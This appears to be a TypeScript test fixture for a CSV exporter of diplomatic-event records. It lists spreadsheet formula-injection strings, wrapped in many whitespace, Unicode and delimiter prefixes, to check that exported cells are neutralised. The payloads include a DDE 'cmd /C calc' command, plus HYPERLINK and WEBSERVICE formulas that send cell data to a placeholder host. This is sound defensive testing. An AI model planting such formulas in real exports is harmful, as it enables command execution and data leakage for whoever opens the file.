import type { DiplomaticEvent } from '../../pipeline/records.ts';
import { EVENT } from '../schemas/samples.ts';
import { EVENT_COLUMNS } from './csv-text.ts';

/** What text from strangers may hold so that a spreadsheet computes, calls a program, or shows another value. */
const COMMANDS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '=HYPERLINK("https://host.example/?"&A1,"open")',
  '=WEBSERVICE("https://host.example/")',
] as const;

const BEFORE = [
  '',
  ' ',
  '   ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  ' \n ',
  '\u00a0',
  '\u3000',
  '\u200b',
  '\ufeff',
  '\u202e',
  '\u2028',
  '\u0000',
  '\u0085',
  '"',
  '""',
  '" ',
  ';',
  '; ',
  ';"',
  'Ana;',
  'Ana; \u200b"',
  'Ana\t',
  'Ana\n',
  'Ana\r\n\r\n"',
  'Ana, "Maria";\n',
] as const;

const OTHER_FORMS = ['＝1+1', '＋1', '－1', '＠SUM(1)', '﹦1+1', '−1', ' ＝1+1'] as const;

/** Every command behind everything that may stand before it. */
export const HOSTILE: readonly string[] = [
  ...BEFORE.flatMap((before) => COMMANDS.map((command) => before + command)),
  ...OTHER_FORMS,
  '\tplain',
  '\nplain',
  `=${'1+'.repeat(20_000)}1`,
  `${'a'.repeat(32_767)}=1+1`,
  `${'a'.repeat(32_766)};=1+1`,
];

/** Text that any article may hold: it stays as it is. */
export const USUAL: readonly string[] = [
  'Ana-Maria Duarte',
  "Côte d'Ivoire",
  'a = b',
  'ana@courier.example',
  'Duarte, "Ana"',
  'Ana\nMaria\r\nSilva',
  'one; two; three',
  'https://courier.example/a;b=c?d=-1&e=+2',
  '– met',
  "'quoted'",
  'عمّان',
  '東京',
  '',
];

/** Columns that hold numbers or truth values. */
export const NUMBERS = ['report_count', 'outlet_count', 'confidence'] as const;
export const TEXT_COLUMNS = EVENT_COLUMNS.filter(
  (column) => column !== 'core' && !NUMBERS.some((number) => number === column),
);

/** An event that holds the text wherever a cell of text comes from, also where other parts of the program allow no such value. */
export function eventOf(text: string): DiplomaticEvent {
  const side = { ...EVENT.actor, name: text, role: text, party: text };
  const [report] = EVENT.reports;
  const event = {
    ...EVENT,
    event_id: text,
    type: text,
    status: text,
    actor: side,
    counterpart: side,
    others: [side, side],
    place: { ...EVENT.place, name: text, country: text },
    date: { ...EVENT.date, start: text, end: text, precision: text },
    topics: ['energy', text],
    evidence: [{ ...EVENT.evidence[0], quote: text }],
    reports: [
      { ...report, outlet: text, url: text },
      { ...report, outlet: `Zeta ${text}`, url: `${text} zeta` },
    ],
    report_count: 2,
    outlet_count: 2,
    confidence: 0.85,
    first_reported: text,
    last_reported: text,
    conflicts: [{ field: 'place', values: [{ value: text, reports: ['r_1'] }] }],
  };
  return event as unknown as DiplomaticEvent;
}
